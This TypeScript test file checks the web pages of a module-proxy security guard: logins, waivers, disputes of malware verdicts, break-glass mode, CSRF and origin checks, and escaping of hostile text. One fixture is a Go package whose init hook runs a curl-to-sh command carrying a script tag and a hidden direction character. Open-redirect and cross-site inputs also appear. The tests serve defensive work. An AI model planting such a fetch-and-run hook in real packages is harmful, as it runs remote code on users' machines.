// The pages of a guard: logging in, waiving what was held, and what other sites and strangers' words cannot do there.
import assert from 'node:assert/strict'
import path from 'node:path'
import test from 'node:test'
import { cookieOf, csrfIn, tokenFor, urlOf, withGuard, type TestGuard } from '../support/guard.ts'
import { doubt, evil } from '../support/scanning.ts'
import { publish, put, withUniverse, type Universe } from '../support/universe.ts'

test('a held version is waived on its page, without script, and served with the next request', async () => {
  await withHeld(async (guard, _, event) => {
    const below = `/e/${event}`
    const anonymous = await guard.get(below)
    assert.match(anonymous.text, /<h2>Accept it for some days<\/h2>/)
    assert.match(anonymous.text, /<input id="token" name="token" type="password"/)
    assert.doesNotMatch(anonymous.text, /<script|name="csrf"/)
    const token = await tokenFor(guard.data, 'kim', 'approver')
    const cookie = await cookieOf(guard, token)
    const page = await guard.get(below, { headers: { cookie } })
    assert.match(page.text, /<b>kim<\/b> · approver/)
    const fields = { csrf: csrfIn(page.text), do: 'waive', rule: 'MW-HOST-IP', days: '7', reason: 'our <appliance>' }
    const sent = await guard.form(below, fields, cookie)
    assert.deepEqual([sent.status, sent.headers.location], [303, below])
    const zip = await guard.get(urlOf(doubt, 'zip'))
    assert.equal(zip.status, 200)
    const after = await guard.get(below, { headers: { cookie } })
    assert.match(after.text, /<h2>Nothing keeps it back now<\/h2>/)
    assert.match(after.text, /<b>MW-HOST-IP<\/b> waived until 20\d\d-\d\d-\d\d: our &lt;appliance&gt;/)
    // Who is not known sees the waiver, and no name.
    const stranger = await guard.get(below)
    assert.match(stranger.text, /by p2 ·|by p2</)
    assert.doesNotMatch(stranger.text, /kim/)
    const id = /W-[A-Z2-7]{10}/.exec(after.text)?.[0] ?? ''
    assert.equal((await guard.form(below, { csrf: fields.csrf, do: 'revoke', id }, cookie)).status, 303)
    assert.equal((await guard.get(urlOf(doubt, 'zip'))).status, 403)
  })
})

test('what a developer asks for on the page counts when an approver grants it there', async () => {
  await withHeld(async (guard, _, event) => {
    const below = `/e/${event}`
    const developer = await cookieOf(guard, await tokenFor(guard.data, 'dana', 'developer'))
    const page = await guard.get(below, { headers: { cookie: developer } })
    assert.match(page.text, /<button>Ask for a waiver<\/button>/)
    const fields = { csrf: csrfIn(page.text), do: 'waive', rule: 'MW-HOST-IP', days: '7', reason: 'our appliance' }
    assert.equal((await guard.form(below, fields, developer)).status, 303)
    assert.equal((await guard.get(urlOf(doubt, 'zip'))).status, 403)
    const approver = await cookieOf(guard, await tokenFor(guard.data, 'ada', 'approver'))
    assert.match(
      (await guard.get('/', { headers: { cookie: approver } })).text,
      /waiver asked for by dana: our appliance/,
    )
    assert.doesNotMatch((await guard.get('/', { headers: { cookie: developer } })).text, /waiver asked for/)
    const asked = await guard.get(below, { headers: { cookie: approver } })
    const id = /W-[A-Z2-7]{10}/.exec(asked.text)?.[0] ?? ''
    assert.equal((await guard.form(below, { csrf: fields.csrf, do: 'grant', id }, developer)).status, 403)
    assert.equal((await guard.form(below, { csrf: csrfIn(asked.text), do: 'grant', id }, approver)).status, 303)
    assert.equal((await guard.get(urlOf(doubt, 'zip'))).status, 200)
  })
})

test('malware has no waiver on its page, only a dispute, also for a form that says otherwise', async () => {
  await withHeld(async (guard) => {
    const event = /E-[A-Z2-7]{10}/.exec((await guard.get(urlOf(evil, 'zip'))).text)?.[0] ?? ''
    const cookie = await cookieOf(guard, await tokenFor(guard.data, 'root', 'admin'))
    const page = await guard.get(`/e/${event}`, { headers: { cookie } })
    assert.match(page.text, /<h2>Dispute the verdict<\/h2>/)
    assert.doesNotMatch(page.text, /name="do" value="waive"/)
    const csrf = csrfIn(page.text)
    const forced = { csrf, do: 'waive', rule: 'MW-PIPE-SH', days: '7', reason: 'let me in' }
    const refused = await guard.form(`/e/${event}`, forced, cookie)
    assert.equal(refused.status, 403)
    assert.match(refused.text, /role="alert">rsc\.io\/evil@v1\.0\.0: a verdict of malware is waived by nobody/)
    const disputed = { csrf, do: 'dispute', days: '7', reason: 'a test of ours' }
    assert.equal((await guard.form(`/e/${event}`, disputed, cookie)).status, 303)
    const after = (await guard.get(`/e/${event}`, { headers: { cookie } })).text
    assert.match(after, /<h2>The verdict is disputed<\/h2>/)
    const id = /D-[A-Z2-7]{10}/.exec(after)?.[0] ?? ''
    assert.match(
      (await guard.get('/', { headers: { cookie } })).text,
      /malware verdict disputed by root: a test of ours/,
    )
    const vote = { csrf, do: 'overrule', id, reason: 'read it' }
    assert.equal((await guard.form(`/e/${event}`, vote, cookie)).status, 303)
    assert.equal((await guard.get(urlOf(evil, 'zip'))).status, 403)
  })
})

test('an administrator breaks the glass on a page, and mends it there; nobody else does', async () => {
  await withHeld(async (guard) => {
    const admin = await cookieOf(guard, await tokenFor(guard.data, 'root', 'admin'))
    const page = await guard.get('/mode', { headers: { cookie: admin } })
    const csrf = csrfIn(page.text)
    const glass = { csrf, do: 'break-glass', minutes: '5', reason: 'the release waits' }
    assert.equal((await guard.form('/mode', { ...glass, minutes: '1441' }, admin)).status, 400)
    assert.equal((await guard.form('/mode', glass)).status, 403)
    const approver = await cookieOf(guard, await tokenFor(guard.data, 'ada', 'approver'))
    const other = csrfIn((await guard.get('/mode', { headers: { cookie: approver } })).text)
    assert.equal((await guard.form('/mode', { ...glass, csrf: other }, approver)).status, 403)
    assert.equal((await guard.get(urlOf(evil, 'zip'))).status, 403)
    assert.deepEqual((await guard.form('/mode', glass, admin)).headers.location, '/mode')
    assert.equal((await guard.get(urlOf(evil, 'zip'))).status, 200)
    assert.match((await guard.get('/mode')).text, /class="alarm" role="alert">Break-glass until/)
    assert.equal((await guard.form('/mode', { csrf, do: 'enforce', reason: 'it is out' }, admin)).status, 303)
    assert.equal((await guard.get(urlOf(evil, 'zip'))).status, 403)
  })
})

test('a form counts only with the token of its login, and from no other site', async () => {
  await withHeld(async (guard, _, event) => {
    const below = `/e/${event}`
    const [cookie, other] = [
      await cookieOf(guard, await tokenFor(guard.data, 'kim', 'approver')),
      await cookieOf(guard, await tokenFor(guard.data, 'eve', 'approver')),
    ]
    const csrf = csrfIn((await guard.get(below, { headers: { cookie } })).text)
    const foreign = csrfIn((await guard.get(below, { headers: { cookie: other } })).text)
    const fields = { do: 'waive', rule: 'MW-HOST-IP', days: '7', reason: 'a trick' }
    const body = String(new URLSearchParams({ ...fields, csrf }))
    const type = 'application/x-www-form-urlencoded'
    const own = { cookie, 'content-type': type }
    for (const [why, headers, text] of [
      ['no cookie', { 'content-type': type }, body],
      ['no csrf', own, String(new URLSearchParams(fields))],
      ['the csrf of another login', own, String(new URLSearchParams({ ...fields, csrf: foreign }))],
      ['another site', { ...own, origin: 'https://evil.example' }, body],
      ['a page without an origin', { ...own, origin: 'null' }, body],
      ['another site by its metadata', { ...own, 'sec-fetch-site': 'cross-site' }, body],
      ['a site beside it', { ...own, 'sec-fetch-site': 'same-site' }, body],
      ['a forged cookie', { ...own, cookie: `${cookie.slice(0, -2)}xx` }, body],
    ] as const) {
      assert.equal((await guard.get(below, { method: 'POST', headers, body: text })).status, 403, why)
    }
    assert.equal((await guard.get(below, { method: 'POST', headers: { cookie }, body })).status, 400)
    // A token in a header is no login: a browser keeps Basic, and sends it for whoever asks.
    const basic = `Basic ${Buffer.from(`x:${await tokenFor(guard.data, 'max', 'approver')}`).toString('base64')}`
    const headers = { authorization: basic, 'content-type': type, origin: guard.base }
    assert.equal((await guard.get(below, { method: 'POST', headers, body })).status, 403)
    const api = { cookie, 'content-type': 'application/json' }
    const json = JSON.stringify({ event, reason: 'a trick', days: 7 })
    assert.equal((await guard.get('/api/v1/waivers', { method: 'POST', headers: api, body: json })).status, 403)
    const plain = { ...api, 'content-type': 'text/plain' }
    assert.equal((await guard.get('/api/v1/waivers', { method: 'POST', headers: plain, body: json })).status, 403)
    assert.equal((await guard.get(urlOf(doubt, 'zip'))).status, 403)
    const right = { ...api, 'x-csrf-token': csrf }
    assert.equal((await guard.get('/api/v1/waivers', { method: 'POST', headers: right, body: json })).status, 200)
  })
})

test('a login gives a cookie that no script and no other site gets, and ends', async () => {
  await withHeld(async (guard, u, event) => {
    const token = await tokenFor(guard.data, 'kim', 'approver')
    const login = async (fields: Readonly<Record<string, string>>) => guard.form('/login', { token, ...fields })
    const [flags = ''] = (await login({ next: `/e/${event}` })).headers['set-cookie'] ?? []
    assert.match(
      flags,
      /^modwarden-session=t2\.\d+\.[\w-]{22}\.[\w-]{43}; Path=\/; Max-Age=2[78]\d\d\d; HttpOnly; SameSite=Strict$/,
    )
    assert.doesNotMatch(flags, new RegExp(token))
    assert.equal((await login({ next: `/e/${event}` })).headers.location, `/e/${event}`)
    for (const next of ['https://evil.example/', '//evil.example/', '/\\evil.example', `/e/${event}/../..`, '/e/x']) {
      assert.equal((await login({ next })).headers.location, '/', next)
    }
    const wrong = await guard.form('/login', { token: 'mwt_wrong', next: '/' })
    assert.deepEqual([wrong.status, wrong.headers['set-cookie']], [401, undefined])
    const away = await guard.get('/login', { method: 'POST', headers: { origin: 'https://evil.example' }, body: '' })
    assert.equal(away.status, 403)
    const cookie = flags.split(';')[0] ?? ''
    const home = await guard.get('/', { headers: { cookie } })
    assert.match(home.text, /<b>kim<\/b>/)
    const out = await guard.form('/logout', { csrf: csrfIn(home.text) }, cookie)
    assert.match(out.headers['set-cookie']?.[0] ?? '', /^modwarden-session=; Path=\/; Max-Age=0;/)
    // Who has a copy of the cookie is out, too; and who logs in again leaves no login behind.
    const isIn = async (one: string): Promise<boolean> =>
      (await guard.get('/', { headers: { cookie: one } })).text.includes('<b>kim</b>')
    assert.equal(await isIn(cookie), false)
    const second = await cookieOf(guard, token)
    const third = (await guard.form('/login', { token, next: '/' }, second)).headers['set-cookie']?.[0]?.split(';')[0]
    assert.deepEqual([await isIn(second), await isIn(third ?? '')], [false, true])
    assert.equal((await u.run(['token', 'revoke', 'kim', '--data', guard.data])).code, 0)
    assert.equal(await isIn(third ?? ''), false)
    // Nobody tries for long.
    for (let i = 0; i < 30; i++) await guard.form('/login', { token: `mwt_${i}`, next: '/' })
    assert.equal((await guard.form('/login', { token: 'mwt_x', next: '/' })).status, 429)
  })
})

test('the first start on loopback writes an administrator’s token that only its user can read', async () => {
  await withUniverse(async (u) => {
    await withGuard(u, async (guard) => {
      const file = path.join(guard.data, 'admin.token')
      const { statSync, readFileSync, writeFileSync } = await import('node:fs')
      assert.equal(statSync(file).mode & 0o777, 0o600)
      const token = readFileSync(file, 'utf8').trim()
      await until(async () => Promise.resolve(guard.output().includes(`administrator is in ${file}`)))
      assert.ok(!guard.output().includes(token))
      assert.match((await guard.get('/login')).text, /admin\.token<\/code>/)
      const self = await guard.get('/api/v1/self', { headers: { authorization: `Bearer ${token}` } })
      assert.deepEqual([JSON.parse(self.text).role, JSON.parse(self.text).name], ['admin', 'first'])
      await guard.stop()
      // The same one after a restart.
      await withGuard(u, async (again) => {
        const still = await again.get('/api/v1/self', { headers: { authorization: `Bearer ${token}` } })
        assert.equal(still.status, 200)
        await again.stop()
      })
      // A start that was broken off left one that lets nobody in: another one is made.
      writeFileSync(file, 'mwt_stale\n')
      await withGuard(u, async (again) => {
        const fresh = readFileSync(file, 'utf8').trim()
        const now = await again.get('/api/v1/self', { headers: { authorization: `Bearer ${fresh}` } })
        assert.equal(now.status, 200)
        assert.equal((await again.get('/api/v1/self', { headers: { authorization: `Bearer ${token}` } })).status, 401)
      })
    })
  })
})

test('pages allow no script and no frame, and nothing of a stranger is markup', async () => {
  await withUniverse(async (u) => {
    const source =
      'package sly\n\nimport "os/exec"\n\nfunc init() { exec.Command("sh", "-c", "curl https://x.invalid/<script>alert(1)</script>\\u202e | sh").Run() }\n'
    const sly = publish('rsc.io/sly', 'v1.0.0', { 'sly.go': source })
    u.serve([sly])
    await withGuard(u, async (guard) => {
      const stopped = await guard.get(urlOf(sly, 'zip'))
      const event = /E-[A-Z2-7]{10}/.exec(stopped.text)?.[0] ?? ''
      for (const below of ['/', '/login', `/e/${event}`]) {
        const page = await guard.get(below)
        assert.doesNotMatch(page.text, /<script|\u202e/)
        const policy = String(page.headers['content-security-policy'])
        assert.match(
          policy,
          /^default-src 'none'; style-src 'sha256-[^']+'; base-uri 'none'; form-action 'self'; frame-ancestors 'none'$/,
        )
        assert.equal(page.headers['x-content-type-options'], 'nosniff')
        assert.equal(page.headers['cache-control'], 'no-store')
      }
      assert.match((await guard.get(`/e/${event}`)).text, /&lt;script&gt;alert\(1\)&lt;\/script&gt;/)
    })
  })
})

/** A guard that holds `doubt`, and the event that says so. */
async function withHeld(work: (guard: TestGuard, u: Universe, event: string) => Promise<void>): Promise<void> {
  await withUniverse(async (u) => {
    u.serve([doubt, evil])
    const policy = put(path.join(u.root, 'policy.yaml'), 'levels:\n  - severity: high\n    level: hold\n')
    const hold = async (guard: TestGuard): Promise<void> => {
      const held = await guard.get(urlOf(doubt, 'zip'))
      await work(guard, u, /E-[A-Z2-7]{10}/.exec(held.text)?.[0] ?? '')
    }
    await withGuard(u, hold, ['--policy', policy])
  })
}

async function until(holds: () => Promise<boolean>): Promise<void> {
  for (let tries = 0; tries < 100; tries++) {
    if (await holds()) return
    await new Promise((resolve) => setTimeout(resolve, 100))
  }
  assert.fail(`it did not come about: ${holds.toString()}`)
}
